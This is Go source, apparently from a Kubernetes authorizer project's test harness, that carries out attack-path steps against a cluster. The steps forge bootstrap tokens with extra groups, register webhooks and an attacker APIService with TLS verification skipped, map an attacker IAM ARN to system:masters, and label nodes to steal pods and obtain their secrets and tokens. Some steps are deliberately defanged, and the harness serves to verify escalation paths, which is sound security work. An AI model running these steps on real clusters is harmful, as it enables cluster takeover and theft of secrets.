package attackpaths

import (
	"context"
	"fmt"
	"net/http"
	"strings"

	corev1 "k8s.io/api/core/v1"

	"github.com/node-authorizer/node-authorizer/attackpaths"
)

// Steps that are possible only. They end where something else decides.

// bootstrapToken authenticates with a token from a secret, or from one that it makes.
func (e *executor) bootstrapToken(ctx context.Context, s step) error {
	data := e.secrets[s.From]
	if s.From.Kind != attackpaths.Secret {
		data = map[string][]byte{
			"token-id": []byte("123456"), "token-secret": []byte("0123456789abcdef"), "usage-bootstrap-authentication": []byte("true"),
		}
		if s.To.Name != "system:bootstrappers" {
			data["auth-extra-groups"] = []byte(s.To.Name)
		}
		secret := map[string]any{
			"metadata": map[string]any{"name": "bootstrap-token-123456"}, "type": string(corev1.SecretTypeBootstrapToken), "data": data,
		}
		made, _ := first(e.acting(s), func(a *actor) answer { return a.post(ctx, secrets.in("kube-system"), secret) })
		if err := made.failure(); err != nil && made.status != http.StatusConflict {
			return err
		}
	}
	token := fmt.Sprintf("%s.%s", data["token-id"], data["token-secret"])
	return until(ctx, "the API server knows the token", func(ctx context.Context) error { return e.ownToken(ctx, s.To, token) })
}

// admissionControl configures a webhook, or a policy with its binding. It ends before an object
// comes by.
func (e *executor) admissionControl(ctx context.Context, s step) error {
	actors := e.acting(s)
	if strings.Contains(s.Because, " a mutating admission policy, ") {
		if err := e.configure(ctx, actors, mutatingPolicies, mutatingPolicy()); err != nil {
			return err
		}
		return e.configure(ctx, actors, mutatingBindings, mutatingBinding())
	}
	return e.configure(ctx, actors, mutatingWebhooks, mutatingWebhook())
}

// nowhere selects no namespace, so that the attacker's webhooks and policies change nothing here.
var nowhere = map[string]any{"matchLabels": map[string]any{"kubernetes.io/metadata.name": "nowhere"}}

// admissionReviews configures a validating webhook that receives the secrets that are written. It ends before a secret
// is written.
func (e *executor) admissionReviews(ctx context.Context, s step) error {
	return e.configure(ctx, e.acting(s), validatingWebhooks, mutatingWebhook())
}

// configure makes an object that has no namespace, or changes one of those that exist. A change is only tried: it may be of
// what the cluster needs.
func (e *executor) configure(ctx context.Context, actors []*actor, kind resource, made map[string]any) error {
	existing := e.list(ctx, kind)
	last, _ := first(actors, func(a *actor) answer {
		last := a.post(ctx, kind.in(""), made)
		for _, o := range existing {
			if !last.refused() {
				break
			}
			annotated := map[string]any{"metadata": map[string]any{"annotations": map[string]any{"made": "yes"}}}
			if last = a.patch(ctx, dry(o.path), mergePatch, annotated); last.refused() {
				last = a.put(ctx, dry(o.path), o.content) // some have to name their version
			}
		}
		return last
	})
	return last.failure()
}

func mutatingWebhook() map[string]any {
	return map[string]any{"metadata": map[string]any{"name": "made"}, "webhooks": []any{map[string]any{
		"name": "made.example.com", "admissionReviewVersions": []string{"v1"}, "sideEffects": "None", "failurePolicy": "Ignore",
		"clientConfig": map[string]any{"url": "https://127.0.0.1:1"}, "namespaceSelector": nowhere,
		"rules": []any{map[string]any{
			"operations": []string{"CREATE"}, "apiGroups": []string{""}, "apiVersions": []string{"v1"}, "resources": []string{"pods"},
		}},
	}}}
}

// unchanging is a patch that changes nothing.
const unchanging = `[JSONPatch{op: "test", path: "/spec", value: object.spec}]`

func mutatingPolicy() map[string]any {
	return map[string]any{"metadata": map[string]any{"name": "made"}, "spec": map[string]any{
		"reinvocationPolicy": "Never",
		"matchConstraints": map[string]any{"namespaceSelector": nowhere, "resourceRules": []any{map[string]any{
			"operations": []string{"CREATE"}, "apiGroups": []string{""}, "apiVersions": []string{"v1"}, "resources": []string{"pods"},
		}}},
		"mutations": []any{map[string]any{"patchType": "JSONPatch", "jsonPatch": map[string]any{"expression": unchanging}}},
	}}
}

func mutatingBinding() map[string]any {
	return map[string]any{"metadata": map[string]any{"name": "made"}, "spec": map[string]any{"policyName": "made"}}
}

// apiService registers an API server, or changes the address of one. It ends before requests of others come by.
func (e *executor) apiService(ctx context.Context, s step) error {
	return e.configure(ctx, e.acting(s), apiServices, attackerAPI())
}

func attackerAPI() map[string]any {
	return map[string]any{"metadata": map[string]any{"name": "v1.attacker.example.com"}, "spec": map[string]any{
		"group": "attacker.example.com", "version": "v1", "groupPriorityMinimum": 1, "versionPriority": 1,
		"insecureSkipTLSVerify": true, "service": map[string]any{"namespace": "default", "name": "attacker"},
	}}
}

// nodeIdentityConfig writes the mappings of identities. It ends there: no part of this cluster
// reads them.
func (e *executor) nodeIdentityConfig(ctx context.Context, s step) error {
	if kind, _ := s.may(); kind == identityMappings.name {
		return e.configure(ctx, e.acting(s), identityMappings, attackerMapping())
	}
	mappings := map[string]any{"metadata": map[string]any{"name": "aws-auth"}, "data": map[string]any{"mapUsers": "[]"}}
	made, _ := first(e.acting(s), func(a *actor) answer {
		if created := a.post(ctx, configMaps.in("kube-system"), mappings); created.ok() {
			return created
		}
		return replace(ctx, a, configMaps.at("kube-system", "aws-auth"), mappings, mappings)
	})
	return made.failure()
}

func attackerMapping() map[string]any {
	return map[string]any{
		"apiVersion": identityMappings.group + "/" + identityMappings.version, "kind": "IAMIdentityMapping",
		"metadata": map[string]any{"name": "made"},
		"spec": map[string]any{
			"arn": "arn:aws:iam::000000000000:user/attacker", "username": "attacker", "groups": []string{"system:masters"},
		},
	}
}

// labelNode labels a node that is held, as the node itself or as an account that may change nodes or their status.
func (e *executor) labelNode(ctx context.Context, s step, labels map[string]string) error {
	last := error(errNoActor)
	for name := range e.nodes {
		for _, path := range []string{nodes.at("", name), nodes.at("", name, "status")} {
			if last = e.addLabels(ctx, s, path, labels).failure(); last == nil {
				return nil
			}
		}
	}
	return last
}

// addLabels labels an object by patch, or by update, which needs the whole object.
func (e *executor) addLabels(ctx context.Context, s step, path string, labels map[string]string) answer {
	var whole map[string]any
	if a := e.admin.get(ctx, path); a.into(&whole) != nil {
		return a
	}
	metadata, _ := whole["metadata"].(map[string]any)
	all, _ := metadata["labels"].(map[string]any)
	if all == nil {
		all = map[string]any{}
	}
	for k, v := range labels {
		all[k] = v
	}
	metadata["labels"] = all
	a, _ := first(e.acting(s), func(a *actor) answer {
		return replace(ctx, a, path, whole, map[string]any{"metadata": map[string]any{"labels": labels}})
	})
	return a
}

// stealPods gives the node the labels that pods select, and waits until the scheduler binds
// one to it.
func (e *executor) stealPods(ctx context.Context, s step) error {
	a := s.as
	if a == nil {
		return errNoActor
	}
	for i := range e.pods {
		p := &e.pods[i]
		if p.Spec.NodeName != "" || p.Namespace != s.To.Namespace {
			continue
		}
		if err := e.labelNode(ctx, s, p.Spec.NodeSelector); err != nil {
			return err
		}
		err := until(ctx, "the scheduler binds the pod to the node", func(ctx context.Context) error {
			if err := e.admin.get(ctx, pods.at(p.Namespace, p.Name)).into(p); err != nil {
				return err
			}
			if !e.nodes[p.Spec.NodeName] {
				return fmt.Errorf("it is bound to %q", p.Spec.NodeName)
			}
			return nil
		})
		if err != nil {
			return err
		}
		if s.To.Kind == attackpaths.Secret {
			return e.requestSecret(ctx, s.To, p.Spec.NodeName)
		}
		return e.requestToken(ctx, s.To, p)
	}
	return fmt.Errorf("no pod waits for a node")
}
